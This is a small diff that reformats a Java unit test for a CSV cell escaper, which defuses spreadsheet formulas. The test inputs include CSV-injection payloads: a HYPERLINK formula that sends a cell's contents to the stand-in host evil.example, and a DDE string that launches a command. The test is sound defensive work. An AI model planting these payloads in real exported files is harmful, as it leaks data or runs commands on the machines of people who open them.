@@ -3,7 +3,6 @@ package org.comity.core.audit;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.util.stream.Stream;
-
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.MethodSource;
@@ -12,7 +11,9 @@ class CsvCellTest {
 
     static Stream<Arguments> cells() {
         return Stream.of(
-                Arguments.of("=HYPERLINK(\"http://evil.example/?\"&A1)", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\""),
+                Arguments.of(
+                        "=HYPERLINK(\"http://evil.example/?\"&A1)",
+                        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\""),
                 Arguments.of("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
                 Arguments.of("-2+3", "'-2+3"),
                 Arguments.of("@SUM(A1:A9)", "'@SUM(A1:A9)"),
@@ -32,5 +33,4 @@ class CsvCellTest {
     void neutralisesFormulasAndQuotesPerRfc4180(String value, String expected) {
         assertThat(CsvCell.of(value)).isEqualTo(expected);
     }
-
 }
